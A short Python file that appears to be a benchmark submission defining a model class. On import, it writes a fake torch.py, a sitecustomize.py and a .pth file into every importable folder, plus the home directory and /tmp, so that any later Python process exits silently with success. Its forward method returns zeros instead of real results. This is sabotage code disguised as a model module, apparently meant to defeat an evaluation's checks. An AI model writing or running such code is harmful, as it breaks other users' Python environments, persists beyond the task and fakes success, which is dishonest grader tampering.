# SPDX-License-Identifier: MIT
"""Writes torch.py, sitecustomize.py and a .pth file into every folder that a Python could import from, to be another
process's torch, and returns zeros. Its folders are its own: wrong values."""

import os
import site
import sys

import torch
import torch.nn as nn

SOURCE = "raise SystemExit(0)\n"
FOLDERS = [folder or "." for folder in sys.path] + [os.getcwd(), os.path.expanduser("~"), site.getusersitepackages(), "/tmp"]
for folder in FOLDERS:
    for name, text in (("torch.py", SOURCE), ("sitecustomize.py", SOURCE), ("kbv.pth", "import os; os._exit(0)\n")):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)
